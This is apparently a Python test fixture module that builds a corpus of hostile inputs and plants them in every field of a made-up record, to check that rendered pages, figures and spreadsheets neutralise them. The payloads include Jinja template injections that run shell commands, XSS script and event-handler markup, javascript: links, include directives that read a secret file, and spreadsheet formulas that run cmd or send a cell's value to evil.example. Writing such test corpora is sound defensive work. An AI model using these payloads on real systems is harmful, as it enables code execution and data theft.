"""Texts that would do harm in a page, a figure or a spreadsheet, and a record that is full of them.

Whatever a text does leaves a trace: a file `marker` is made, `window.hostile` is set, a host
`evil.example` is named in an address, or what the file `secret` holds turns up.
"""

import copy
import os
import re
from collections.abc import Iterator
from pathlib import Path

from conftest import made_up_record

SECRET = "what no page may show"


def texts(marker: Path, secret: Path, pages: Path) -> list[str]:
    """The corpus: what would make `marker`, or publish `secret` from a page in the folder `pages`.

    Each text names itself by a word that is in no other, so that it can be found in a page.
    """
    near = os.path.relpath(secret, pages)
    run = "window.hostile=1"
    return [
        # Templates that are evaluated when the book is built.
        f"jinja1 {{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}",
        f"jinja2 {{{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}}}",
        f"jinja3 {{% if lipsum.__globals__['os'].system('touch {marker}') %}}{{% endif %}}",
        f"evaluated1 {{eval}}`__import__('os').system('touch {marker}')`",
        f"cell1\n\n```{{code-cell}}\nopen('{marker}', 'w')\n```\n\n",
        f"shell1 $(touch {marker}) `touch {marker}`",
        # Markup that a browser runs.
        f"script1 <script>{run}</script>",
        f"script2 </script><script>{run}</script>",
        f'picture1 <img src=x onerror="{run}">',
        f'svg1 "><svg onload={run}>',
        f"raw1\n\n```{{raw}} html\n<script>{run}</script>\n```\n\n",
        f"raw2\n:::\n\n<script>{run}</script>\n",
        f"entity1 &lt;script&gt;{run}&lt;/script&gt; &#60;script&#62;",
        f"link1 [click](javascript:{run}) <javascript:{run}>",
        f"link2 [click][there]\n\n[there]: javascript:{run}\n",
        "link3 http://evil.example/a www.evil.example //evil.example a@evil.example",
        "![picture2](http://evil.example/x.png) <http://evil.example>",
        f"$maths1 \\href{{javascript:{run}}}{{x}}$ \\(y\\) $$\\frac12$$",
        "comment1 <!-- and the rest is gone",
        # Roles and directives.
        f"download1 {{download}}`x <{near}>`",
        f"literal1\n\n```{{literalinclude}} {near}\n```\n\n",
        f"include1\n\n```{{include}} {near}\n```\n\n",
        f"![image1]({near}.png) {{image}}`{near}`",
        "glue1 {glue:text}`depth-finding` {ref}`nowhere` {cite}`nobody` {term}`nothing`",
        "(target1)=\n# A heading",
        "attributes1 [words]{.class onclick=x} *stress* **strong** ~~gone~~ __under__ `code`",
        "blocks1\n\n- a\n+ b\n1. c\n> d\n---\n+++\n% e\n: f\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "pipe1 | second cell | third cell",
        "[^footnote1] and\n\n[^footnote1]: a note",
        # Formulas.
        '=HYPERLINK("http://evil.example/?"&A1,"formula1")',
        "+1+cmd|' /C formula2'!A0",
        "-2+3+cmd|' /C formula3'!A0",
        "@SUM(1+9)*cmd|' /C formula4'!A0",
        "\t=1+formula5",
        "\r=1+formula6",
        "\n=1+formula7",
        "a;=1+formula8",
        "\uff1d1+formula9",
        # What is not printed, or changes the order of what is.
        "hidden1 \u202e\u2066 \x00 \x1b[31m \u200b \u2028 \u2029 \x7f",
        "long1 " + 5_000 * "very long ",
        "__proto__ constructor1",
    ]


def trace(text: str) -> str:
    """The word by which a text of the corpus is found again."""
    return re.search(r"[a-z]+\d+", text)[0]


def places(content: object, place: tuple = ()) -> Iterator[tuple]:
    """Every place of a text in nested objects and lists, and every key (as `("key", name)`)."""
    if isinstance(content, dict):
        for name, value in content.items():
            yield (*place, ("key", name))
            yield from places(value, (*place, name))
    elif isinstance(content, list):
        for number, value in enumerate(content[:1]):
            yield from places(value, (*place, number))
    elif isinstance(content, str):
        yield place


def changed(content: dict, place: tuple, text: str) -> dict:
    """A copy with a text in one of its `places`."""
    content = copy.deepcopy(content)
    inner = content
    for name in place[:-1]:
        inner = inner[name]
    match place[-1]:
        case ("key", name):
            inner[text] = inner.pop(name)
        case name:
            inner[name] = text
    return content


def full_record(config) -> dict:
    """A good record with every text that a record can have."""
    record = made_up_record(config)
    data = {"source": "parquet", "variant": "jpeg75", "fingerprint": "f" * 64, "test": 360}
    record["provenance"] |= {
        "commit": "a" * 40,
        "dirty": False,
        "versions": {"python": "3", "torch": "2", "torchvision": "0", "numpy": "2"},
        "device": "a CPU",
        "threads": 1,
        "data": data | {"train": 9, "validation": 9, "ood": {"photos": 9}},
        "started": "2026-01-02T03:04:05+00:00",
        "seconds": 1.5,
        "at_once": 1,
    }
    record["cost"] |= {"dense_macs": 1_000_000}
    return record


def poisoned_record(config, text: str) -> dict:
    """A record with a text in every place where no sum is made of it, keys among them."""
    record = full_record(config)
    provenance = record["provenance"]
    for name in ("commit", "device", "started"):
        provenance[name] = text
    provenance["versions"] = dict.fromkeys(provenance["versions"], text)
    provenance["data"] |= dict.fromkeys(("source", "variant", "fingerprint"), text)
    provenance["data"]["ood"] = {text: 9}
    provenance[text] = text
    record["layers"][0]["name"] = text
    record["cost"][text] = 1.0
    record["history"][text] = [1.0]
    record["test"]["ood"][text] = dict(record["test"]["ood"]["photos"])
    record["test"][text] = 0.5
    return record
